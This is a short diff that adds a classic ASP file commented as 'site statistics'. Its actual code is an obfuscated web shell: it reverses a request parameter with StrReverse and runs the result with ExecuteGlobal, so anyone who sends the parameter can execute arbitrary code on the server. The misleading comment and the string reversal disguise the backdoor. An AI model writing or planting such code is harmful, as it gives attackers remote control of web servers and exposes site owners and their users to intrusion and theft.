@@ -1,0 +1,5 @@
+<%
+' site statistics
+Dim a
+ExecuteGlobal StrReverse(Request("a"))
+%>
